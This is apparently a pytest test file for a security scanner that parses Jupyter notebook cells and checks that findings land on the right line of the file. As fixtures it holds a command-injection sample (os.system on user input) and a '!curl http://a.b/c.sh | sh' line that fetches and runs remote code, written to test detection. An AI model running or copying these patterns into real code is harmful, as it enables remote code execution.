"""The code cells of notebooks are searched, with the lines of the file."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from luminos_core.catalogue.rule import NOTEBOOK
from luminos_core.parsers.code.notebooks import programs_of
from luminos_core.parsers.code.search import find_code_matches


def _cell(source: Any, kind: str = "code") -> dict[str, Any]:
    outputs = {"execution_count": 1, "outputs": [{"text": source}]} if kind == "code" else {}
    return {"cell_type": kind, "metadata": {}, **outputs, "source": source}


def _lines(text: str) -> list[str]:
    return text.splitlines(keepends=True)


def _notebook(*cells: dict[str, Any], language: str = "python", indent: int | None = 1) -> str:
    metadata = {"kernelspec": {"language": language, "name": "k"}}
    notebook = {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(notebook, indent=indent, sort_keys=True, ensure_ascii=False)


def _found(text: str) -> list[tuple[str, int]]:
    matches = find_code_matches(text.encode(), NOTEBOOK, "a.ipynb").matches
    return [(each.rule, each.line) for each in matches]


def test_a_flag_stands_on_the_line_of_the_file() -> None:
    text = _notebook(
        _cell(_lines("# Use os.system(command)\n"), "markdown"),
        _cell(_lines("import os\ncommand = input()\n")),
        _cell([]),
        _cell(_lines("x = 1\nos.system(command)\n")),
    )
    [(rule, line)] = _found(text)
    assert rule == "command-injection"
    assert text.split("\n")[line - 1].strip() == r'"os.system(command)\n"'
    assert line > text.split("\n").index(' "nbformat": 4,') - 20  # the source, not the output


@pytest.mark.parametrize("indent", [None, 1, 4])
def test_a_source_that_is_one_text_has_the_line_of_that_text(indent: int | None) -> None:
    text = _notebook(_cell("import os\nos.system(input())"), indent=indent)
    [(_, line)] = _found(text)
    assert "os.system(input())" in text.split("\n")[line - 1]
    assert '"source"' in text.split("\n")[line - 1]


def test_magics_are_no_code_and_commands_are_shell() -> None:
    cell = _cell(
        _lines("%matplotlib inline\nif x:\n    !curl http://a.b/c.sh | sh\ny = 1\nopen?\n")
    )
    programs = programs_of(_notebook(cell))
    assert programs["Python"].lines == ["", "if x:", "    pass", "y = 1", ""]
    assert programs["Shell"].lines == ["curl http://a.b/c.sh | sh"]
    assert "shell-pipe-to-shell" in {rule for rule, _ in _found(_notebook(cell))}


def test_a_cell_in_another_language_is_of_that_language() -> None:
    programs = programs_of(
        _notebook(
            _cell(_lines("%%bash\necho a\n")),
            _cell(_lines("\n%%time\nb = 1\n")),
            _cell(_lines("%%script /bin/sh\necho c\n")),
            _cell(_lines("%%writefile d.py\nos.system(d)\n")),
        )
    )
    assert [each for each in programs["Shell"].lines if each] == ["echo a", "echo c"]
    assert [each for each in programs["Python"].lines if each] == ["b = 1"]


def test_a_notebook_is_of_the_language_of_its_kernel() -> None:
    assert set(programs_of(_notebook(_cell(["let a = 1;"]), language="javascript"))) == {
        "JavaScript"
    }
    assert not programs_of(_notebook(_cell(["a <- 1"]), language="R"))
    assert set(programs_of(json.dumps({"cells": [_cell(["a = 1"])]}))) == {"Python"}


@pytest.mark.parametrize("text", ["", "[]", '{"cells": 1}', '{"cells": [1, {"source": {}}]}', "{"])
def test_what_is_no_notebook_has_no_program(text: str) -> None:
    assert not programs_of(text)


_SOURCES = st.lists(st.text("ab\"\\\n é'!=", max_size=12), max_size=4).map("\n".join)


@given(st.lists(st.tuples(_SOURCES, st.booleans()), max_size=5), st.sampled_from([None, 1, 2]))
def test_each_line_of_code_stands_on_its_line(
    cells: list[tuple[str, bool]], indent: int | None
) -> None:
    sources = [([text] if is_text else _lines(text)) for text, is_text in cells]
    text = _notebook(*map(_cell, sources), language="ruby", indent=indent)
    for program in programs_of(text).values():
        for line, place in zip(program.lines, program.places, strict=True):
            assert json.dumps(line, ensure_ascii=False)[1:-1] in text.split("\n")[place - 1]
    lines = [line for source in sources for line in "".join(source).removesuffix("\n").split("\n")]
    shown = [line for program in programs_of(text).values() for line in program.lines]
    assert [line for line in shown if line] == [line for line in lines if line]
